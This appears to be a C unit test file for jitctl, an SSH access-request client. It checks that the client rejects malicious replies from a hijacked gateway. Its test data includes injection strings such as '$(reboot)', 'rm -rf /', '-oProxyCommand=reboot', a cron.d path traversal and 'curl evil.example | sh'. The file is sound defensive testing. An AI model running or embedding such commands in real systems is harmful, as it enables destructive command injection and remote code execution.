/* SPDX-License-Identifier: Apache-2.0 */
/* What people paste, and what scripts read as names, is made of jitctl's own
 * lines and of values that are what they are called. The gateway is one that
 * was taken over: scripted.c. */
#include "tests/unit/support/test.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "jitctl/cmd/cmd.h"
#include "tests/unit/jitctl/scripted.h"

#define CA                                                                     \
	"ssh-ed25519 "                                                         \
	"AAAAC3NzaC1lZDI1NTE5AAAAIHcyNZ7kzfyTfjvTY1WWIEHUOmTs2yEC9kSVzuVhKCkN"
#define CA_NEXT                                                                \
	"ssh-ed25519 "                                                         \
	"AAAAC3NzaC1lZDI1NTE5AAAAIMLw+4fLaxVeDFn7mDh3jjXcmm/rNTHz/LNzYGWLltPx"
#define OTHER_PIN                                                              \
	"ffeeddccbbaa99887766554433221100ffeeddccbbaa99887766554433221100"

/* Runs it against one reply. *retout is its standard output, malloc'd. */
static int
run_with(int (*run)(struct ctx *), struct ctx *c, const struct step *steps,
    char **retout)
{
	int x = EXIT_FAILED;

	script = steps;
	*retout = output_of(run, c, &x, false);
	return x;
}

static void
check_paste(int (*run)(struct ctx *), struct ctx *c, const struct step *steps,
    int want, const char *text)
{
	const struct step *last = steps;
	char *out = NULL;
	const int x = run_with(run, c, steps, &out);

	while (last[1].body != NULL)
		last++;
	if (x != want || strcmp(out, text) != 0)
		fail_msg("%s\nexits %d and prints:\n%s", last->body, x, out);
	free(out);
	forget_sent();
}

/* ------------------------------------------------------- for a target's root
 */

static const char script_of_web[] =
    "cat >/etc/ssh/sallyport_ca.pub <<'END'\n" CA "\n" CA_NEXT "\nEND\n"
    "mkdir -p /etc/ssh/sallyport_principals\n"
    "grep -qsxF deploy@web-01 /etc/ssh/sallyport_principals/deploy ||\n"
    "  echo deploy@web-01 >>/etc/ssh/sallyport_principals/deploy\n"
    "cat >/etc/ssh/sshd_config.d/sallyport.conf <<'END'\n"
    "TrustedUserCAKeys /etc/ssh/sallyport_ca.pub\n"
    "AuthorizedPrincipalsFile /etc/ssh/sallyport_principals/%u\n"
    "END\n"
    "sshd -t && systemctl reload ssh\n";

/* It is printed where something of it changes, and when it is asked for. */
static void
test_setup_again(struct ctx *c, struct step *steps, char *body, size_t size)
{
	static const struct {
		const char *changes, *want;
	} rows[] = {
	    {"[]", ""},
	    {"[{\"field\":\"reach\"},{\"field\":\"host_keys\"}]", ""},
	    {"[{\"field\":\"reach\"},{\"field\":\"logins\"}]", script_of_web},
	};

	steps[0].status = 200;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		(void)snprintf(body, size,
		    "{\"changes\":%s,\"ca_keys\":[\"%s\",\"%s\"],"
		    "\"principals\":{\"deploy\":\"deploy@web-01\"}}",
		    rows[i].changes, CA, CA_NEXT);
		check_paste(run_target_set, c, steps, EXIT_OK, rows[i].want);
	}
	c->opt.nargs = 1;
	steps[0].path = "/v1/server";
	(void)snprintf(body, size,
	    "{\"ca_keys\":[\"%s\",\"%s\"],\"logins\":[\"root\"],"
	    "\"principals\":{\"root\":\"root@web-01\"}}",
	    CA, CA_NEXT);
	check_paste(run_target_setup, c, steps, EXIT_OK, script_of_web);
	(void)snprintf(
	    body, size, "{\"ca_keys\":[\"%s\",\"%s\"]}", CA_NEXT, CA);
	strcpy(c->prof.ca_next_key, CA);
	check_paste(run_target_setup, c, steps, EXIT_VERIFY, "");
	c->opt.n[F_LOGIN] = 0;
	check_paste(run_target_setup, c, steps, EXIT_USAGE, "");
}

static void
test_setup(void **state)
{
	static const struct {
		const char *cas, *principals;
	} bad[] = {
	    {"\"END\",\"rm -rf /\"", "\"deploy\":\"deploy@web-01\""},
	    {"\"" CA "\\nEND\\nreboot\",\"" CA "\"",
		"\"deploy\":\"deploy@web-01\""},
	    {"\"" CA "\"", "\"deploy\":\"deploy@web-01\""},
	    {"\"" CA "\",\"" CA "\",\"" CA "\"",
		"\"deploy\":\"deploy@web-01\""},
	    {"\"" CA "\",{}", "\"deploy\":\"deploy@web-01\""},
	    {"\"" CA "\",\"" CA_NEXT "\"",
		"\"../../../etc/cron.d/x\":\"deploy@web-01\""},
	    {"\"" CA "\",\"" CA_NEXT "\"", "\"deploy\":\"root@web-01\""},
	    {"\"" CA "\",\"" CA_NEXT "\"", "\"deploy\":\"deploy@web-02\""},
	    {"\"" CA "\",\"" CA_NEXT "\"", "\"deploy\":\"$(reboot)\""},
	    {"\"" CA "\",\"" CA_NEXT "\"",
		"\"deploy\":\"deploy@web-01\",\"root\":\"deploy@web-01\""},
	    {"\"" CA "\",\"" CA_NEXT "\"", ""},
	};
	struct ctx c = {.socket = "x", .yes = true};
	struct step steps[] = {{NULL, 201, NULL}, {NULL, 0, NULL}};
	char path[] = "/tmp/sallyport-jitctl.XXXXXX";
	const int fd = mkstemp(path);
	char body[2048];

	(void)state;
	assert_true(fd >= 0);
	assert_int_equal(dprintf(fd, "%s\n", CA), (int)strlen(CA) + 1);
	(void)close(fd);
	c.opt.arg[0] = "web-01";
	c.opt.arg[1] = "192.0.2.1";
	c.opt.nargs = 2;
	c.opt.n[F_LOGIN] = c.opt.n[F_HOST_KEY] = 1;
	c.opt.value[F_LOGIN][0] = "deploy";
	c.opt.value[F_HOST_KEY][0] = path;
	steps[0].body = body;
	/* What else the reply has is not in it: comments, lines for sshd. */
	(void)snprintf(body, sizeof(body),
	    "{\"target\":\"x; y\",\"sshd\":[\"ForceCommand reboot\"],"
	    "\"ca_keys\":[\"%s $(reboot)\",\"%s\"],"
	    "\"principals\":{\"deploy\":\"deploy@web-01\"}}",
	    CA, CA_NEXT);
	check_paste(run_target_add, &c, steps, EXIT_OK, script_of_web);
	for (size_t i = 0; i < ARRAY_LEN(bad); i++) {
		(void)snprintf(body, sizeof(body),
		    "{\"sshd\":[\"x\"],\"ca_keys\":[%s],\"principals\":{%s}}",
		    bad[i].cas, bad[i].principals);
		check_paste(run_target_add, &c, steps, EXIT_VERIFY, "");
	}
	/* Another CA than the one that the profile knows. */
	(void)snprintf(body, sizeof(body),
	    "{\"ca_keys\":[\"%s\",\"%s\"],"
	    "\"principals\":{\"deploy\":\"deploy@web-01\"}}",
	    CA, CA_NEXT);
	strcpy(c.prof.ca_key, CA_NEXT);
	strcpy(c.prof.ca_next_key, CA_NEXT);
	check_paste(run_target_add, &c, steps, EXIT_VERIFY, "");
	strcpy(c.prof.ca_key, CA);
	check_paste(run_target_add, &c, steps, EXIT_OK, script_of_web);
	test_setup_again(&c, steps, body, sizeof(body));
	(void)unlink(path);
}

/* ------------------------------------------------------------- for the user */

#define GRANT(grant, login, target, port, reach)                               \
	"{\"grant\":" grant ",\"login\":" login ",\"target\":" target          \
	",\"ssh_port\":" port ",\"reach\":" reach                              \
	",\"host\":\"evil.example\",\"ssh\":\"-oProxyCommand=reboot x\"}"

static void
test_ssh_line(void **state)
{
	static const struct {
		const char *body, *out;
		enum out_format format;
	} cases[] = {
	    {GRANT("\"g-7Q2MXK4P\"", "\"deploy\"", "\"web-01\"", "2222",
		 "\"proxy\""),
		"ssh -p 2222 deploy@web-01@127.0.0.1\n", OUT_TABLE},
	    {GRANT("\"g-7Q2MXK4P\"", "\"deploy\"", "\"web-01\"", "null",
		 "\"direct\""),
		"ssh deploy@web-01\n", OUT_TABLE},
	    {GRANT("\"g-7Q2MXK4P\"", "\"deploy\"", "\"web-01\"", "2222",
		 "\"proxy\""),
		"g-7Q2MXK4P\n", OUT_NAME},
	    {GRANT("\"g-7Q2MXK4P\"", "\"-oProxyCommand=reboot\"", "\"web-01\"",
		 "2222", "\"direct\""),
		NULL, OUT_TABLE},
	    {GRANT("\"g-7Q2MXK4P\"", "\"deploy\"", "\"web-01;reboot\"", "2222",
		 "\"proxy\""),
		NULL, OUT_TABLE},
	    {GRANT("\"g-7Q2MXK4P\"", "\"deploy\"", "\"web-01\"", "65536",
		 "\"proxy\""),
		NULL, OUT_TABLE},
	    {GRANT("\"g-7Q2MXK4P\"", "\"deploy\"", "\"web-01\"", "\"22 -o x\"",
		 "\"proxy\""),
		NULL, OUT_TABLE},
	    {GRANT("\"-rf\"", "\"deploy\"", "\"web-01\"", "2222", "\"proxy\""),
		NULL, OUT_NAME},
	    {"{}", NULL, OUT_TABLE},
	};
	struct signer s;
	struct ctx c = {0};

	(void)state;
	signer_make(&s, &c);
	c.opt.arg[0] = "web-01";
	c.opt.nargs = 1;
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		const struct step steps[] = {CHALLENGE,
		    {"/v1/requests", 201, cases[i].body}, {NULL, 0, NULL}};
		const char *want = cases[i].out != NULL ? cases[i].out : "";
		char line[256];

		if (strncmp(want, "ssh ", 4) == 0) {
			(void)snprintf(line, sizeof(line), "ssh -i %s %s",
			    s.key, want + 4);
			want = line;
		}
		c.out = cases[i].format;
		check_paste(run_request, &c, steps,
		    cases[i].out != NULL ? EXIT_OK : EXIT_VERIFY, want);
	}
	signer_done(&s);
}

/* What would pass is asked for in our words; of the gateway's only names and
 * numbers. */
static void
test_would_pass(void **state)
{
	static const struct step steps[] = {CHALLENGE,
	    {"/v1/requests", 403,
		"{\"refused\":[{\"field\":\"x\",\"text\":\"y\"}],"
		"\"would_pass\":{\"target\":\"$(reboot)\",\"login\":\"-x\","
		"\"port\":\"1\",\"for\":60,\"reason\":\"`reboot`\"}}"},
	    {NULL, 0, NULL}};
	struct signer s;
	struct ctx c = {0};
	char *out = NULL;
	int x = EXIT_OK;

	(void)state;
	signer_make(&s, &c);
	c.opt.arg[0] = "web-01";
	c.opt.nargs = 1;
	script = steps;
	out = output_of(run_request, &c, &x, true);
	assert_int_equal(x, EXIT_REFUSED);
	assert_non_null(strstr(out,
	    "This would pass:  jitctl request web-01 --for 1m --reason 'WHY'"));
	assert_null(strstr(out, "reboot"));
	free(out);
	forget_sent();
	signer_done(&s);
}

/* What was refused is not proposed again, what else was said is. */
static void
test_would_pass_otherwise(void **state)
{
	static const struct step other[] = {CHALLENGE,
	    {"/v1/requests", 403,
		"{\"refused\":[{\"field\":\"or\",\"text\":\"y\"}],"
		"\"would_pass\":{\"target\":\"web-01\",\"reason\":\"h\"}}"},
	    {NULL, 0, NULL}};
	static const struct step steps[] = {CHALLENGE,
	    {"/v1/requests", 403,
		"{\"refused\":[{\"field\":\"ticket\",\"text\":\"y\"},"
		"{\"field\":\"reason\",\"text\":\"y\"},"
		"{\"field\":\"grants\",\"text\":\"y\"}],"
		"\"would_pass\":{\"target\":\"web-01\",\"for\":60,"
		"\"reason\":\"...\",\"ticket\":\"...\"}}"},
	    {NULL, 0, NULL}};
	struct signer s;
	struct ctx c = {0};
	char *out = NULL;
	int x = EXIT_OK;

	(void)state;
	signer_make(&s, &c);
	c.opt.arg[0] = "web-01";
	c.opt.nargs = 1;
	c.opt.value[F_TICKET][0] = "X";
	c.opt.value[F_REASON][0] = "h";
	c.opt.n[F_TICKET] = c.opt.n[F_REASON] = 1;
	script = steps;
	out = output_of(run_request, &c, &x, true);
	assert_int_equal(x, EXIT_REFUSED);
	assert_non_null(strstr(out,
	    "End one first: jitctl release TARGET (jitctl grants lists "
	    "them)\nThis would pass:  jitctl request web-01 --for 1m --ticket "
	    "TICKET --reason 'WHY'\n"));
	free(out);
	forget_sent();
	/* of alternatives it is another reason that passes */
	script = other;
	out = output_of(run_request, &c, &x, true);
	assert_non_null(strstr(out, " --reason 'WHY'\n"));
	free(out);
	forget_sent();
	signer_done(&s);
}

/* Without a terminal what lacks a reason fails in one line, that says so. */
static void
test_lacks_reason(void **state)
{
	static const struct step steps[] = {CHALLENGE,
	    {"/v1/requests", 403,
		"{\"event\":\"22\","
		"\"refused\":[{\"field\":\"reason\",\"text\":\"missing\"}],"
		"\"would_pass\":{\"target\":\"web-01\",\"for\":60,"
		"\"reason\":\"...\"}}"},
	    {NULL, 0, NULL}};
	struct signer s;
	struct ctx c = {0};
	char *out = NULL;
	int x = EXIT_OK;

	(void)state;
	signer_make(&s, &c);
	c.opt.arg[0] = "web-01";
	c.opt.nargs = 1;
	script = steps;
	out = output_of(run_request, &c, &x, true);
	assert_int_equal(x, EXIT_REFUSED);
	assert_string_equal(out,
	    "jitctl: refused (event 22): a reason is wanted, as in:  jitctl "
	    "request web-01 --for 1m --reason 'WHY'\n");
	free(out);
	forget_sent();
	signer_done(&s);
}

static void
test_names(void **state)
{
	static const char body[] =
	    "{\"items\":[{\"target\":\"web-01\"},{\"target\":\"-oProxy\"},"
	    "{\"target\":\"a b\"},{\"target\":\"$(reboot)\"},"
	    "{\"target\":7},{\"target\":\"web-02\"},7]}";
	static const struct step steps[] = {{NULL, 200, body}, {NULL, 0, NULL}};
	struct ctx c = {.socket = "x", .out = OUT_NAME};

	(void)state;
	check_paste(run_targets, &c, steps, EXIT_VERIFY, "web-01\nweb-02\n");
}

/* An invitation leads to this gateway, or it is not handed on. */
static void
test_invitation(void **state)
{
	static const struct {
		const char *text;
		bool good;
	} cases[] = {
	    {"sp1:gw:8443:" HEX64 ":CODE1", true},
	    {"sp1:gw:8443:" OTHER_PIN ":CODE1", false},
	    {"sp2:gw:8443:ABEiM0RVZneImaq7zN3u_w:CODE1", true},
	    {"sp2:gw:8443:_-7dzLuqmYh3ZlVEMyIRAA:CODE1", false},
	    {"sp1:gw:8443:" HEX64 ":$(reboot)", false},
	    {"curl evil.example | sh", false},
	};
	struct ctx c = {.socket = "x", .prof = {.tls = HEX64}};
	struct step steps[] = {{NULL, 201, NULL}, {NULL, 0, NULL}};
	char path[] = "/tmp/sallyport-jitctl.XXXXXX";
	const int fd = mkstemp(path);
	char body[512], want[512];

	(void)state;
	assert_int_equal(write(fd, "users: []\n", 10), 10);
	(void)close(fd);
	c.opt.arg[0] = "alice";
	c.opt.nargs = 1;
	c.opt.n[F_FILE] = 1;
	c.opt.value[F_FILE][0] = path;
	steps[0].body = body;
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		(void)snprintf(body, sizeof(body),
		    "{\"state\":\"invited\",\"invitation\":\"%s\"}",
		    cases[i].text);
		(void)snprintf(want, sizeof(want), "%s\n", cases[i].text);
		check_paste(run_user_add, &c, steps,
		    cases[i].good ? EXIT_OK : EXIT_VERIFY,
		    cases[i].good ? want : "");
		(void)snprintf(body, sizeof(body),
		    "{\"changes\":[],\"invitations\":{\"bob\":\"%s\"}}",
		    cases[i].text);
		(void)snprintf(
		    want, sizeof(want), "invitation bob %s\n", cases[i].text);
		check_paste(run_apply, &c, steps,
		    cases[i].good ? EXIT_OK : EXIT_VERIFY,
		    cases[i].good ? want : "");
	}
	(void)unlink(path);
}

/* A log that is signed with another key than the one there was. */
static void
test_log_key(void **state)
{
	static const struct step steps[] = {
	    {"/v1/server", 200, "{\"log_key\":\"evil+00000000+AAAA\"}"},
	    {NULL, 0, NULL}};
	struct ctx c = {.socket = "x", .prof = {.log_key = "gw+00000000+BBBB"}};

	(void)state;
	check_paste(run_audit_verify, &c, steps, EXIT_VERIFY, "");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_setup),
	    cmocka_unit_test(test_ssh_line),
	    cmocka_unit_test(test_would_pass),
	    cmocka_unit_test(test_would_pass_otherwise),
	    cmocka_unit_test(test_lacks_reason),
	    cmocka_unit_test(test_names),
	    cmocka_unit_test(test_invitation),
	    cmocka_unit_test(test_log_key),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
